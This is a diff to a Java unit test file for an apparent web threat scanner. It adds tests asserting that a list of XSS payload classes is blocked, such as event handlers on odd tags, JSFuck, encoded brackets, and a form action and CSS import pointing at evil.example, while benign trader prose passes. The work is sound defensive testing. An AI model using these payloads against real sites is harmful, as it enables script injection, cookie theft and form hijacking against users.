@@ -134,9 +134,9 @@ class ThreatScannerTest {
   @Test
   @DisplayName("scores add up against the threshold; raising it lets a single warning through")
   void anomalyScoring() {
-    // alert(1) is a threat on its own since xss-script-context reads script calls; a template
-    // call is the weak signal left
-    ScanResult warning = scanner.scan("alert`1`");
+    // alert(1) and alert`1` are threats on their own since xss-script-context reads script calls;
+    // a CSS expression outside a style attribute is a weak signal left
+    ScanResult warning = scanner.scan("width: expression(1)");
     assertThat(warning.score()).isEqualTo(3);
     assertThat(warning.threat()).isFalse();
     ScanResult several = scanner.scan("<img src=x onerror=alert(document.cookie)>");
@@ -307,5 +307,56 @@ class ThreatScannerTest {
     assertThat(scanner.scan(post(attacks, "application/json")).matches())
         .extracting(ScanResult.Match::rule)
         .contains("sqli-token-shape", "cmd-shell-grammar");
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "handler on a custom tag          | <trade-card tabindex=1 onfocusin=x()>",
+        "handler on details, no space     | <details/open/ontoggle=go()>",
+        "form hijacked by formaction      | <button formaction=//evil.example/>go</button>",
+        "markup rendered from srcdoc      | <iframe srcdoc=&lt;p&gt;hi>",
+        "an XSLT instruction              | <xsl:value-of select=\"x\"/>",
+        "7-bit markup, raw                | ¼body onpageshow=go()¾",
+        "7-bit markup, URL-encoded        | %BCscript%BEgo()%BC/script%BE",
+        "an escaped lone bracket          | &#x0003C",
+        "a JavaScript-escaped bracket     | \\u003C",
+        "tagged template call             | prompt`x`",
+        "optional call                    | confirm?.(2)",
+        "parenthesised sink called        | (prompt)(2)",
+        "sink handed over as a callback   | [2].forEach(confirm)",
+        "string-keyed member of this      | this['con'+'firm'](2)",
+        "timer with a variable            | setInterval(code)",
+        "DOM member only script names     | x.parentNode.removeChild(x)",
+        "JSFuck                           | (!![]+[])[+!+[]]",
+        "CSS import                       | @import url(//evil.example/x.css);",
+        "handler name alone               | onPointerLockChange",
+        "Flash trigger name alone         | FSCommand"
+      })
+  @DisplayName("XSS classes beyond the classic tags are blocked")
+  void xssClasses(String what, String value) {
+    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "onload as a verb            | onload the position before close",
+        "formatting markup           | <b>bold</b> note",
+        "comparisons                 | a < b and c > d",
+        "fractions                   | buy ¼ now and ½ on the dip, keep ¾ of the cash",
+        "a plain comparator          | <",
+        "a form-encoded comparator   | %3C",
+        "prose with a bracket        | this [link] explains the fee tiers",
+        "an abbreviation in brackets | the eval (v2) looks good",
+        "symbols on a keyboard       | [] ( ) ! + are the keys on the macro pad"
+      })
+  @DisplayName("trader prose near the new XSS classes passes")
+  void xssClassesProse(String what, String value) {
+    assertThat(scanner.scan(value).threat()).as(what).isFalse();
   }
 }
